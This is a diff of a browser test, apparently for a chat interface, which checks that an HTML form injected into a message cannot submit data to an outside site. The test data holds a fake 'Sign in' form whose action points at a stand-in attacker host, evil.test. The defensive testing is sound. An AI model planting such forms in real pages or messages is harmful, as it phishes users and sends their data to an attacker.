@@ -345,8 +345,7 @@ def test_a_form_in_a_message_sends_nothing_elsewhere(page: Page) -> None:
         '<form action="https://evil.test/f"><input name="a" value="b"><button type="submit">Sign in</button></form>',
     )
     finished(page)
-    for button in page.locator("#chat .message form button").all():
-        button.click()
+    expect(page.locator("#chat .message form button").first).to_be_hidden()
     assert page.evaluate(SUBMIT) == "form-action"
     assert "evil.test" not in page.url
 
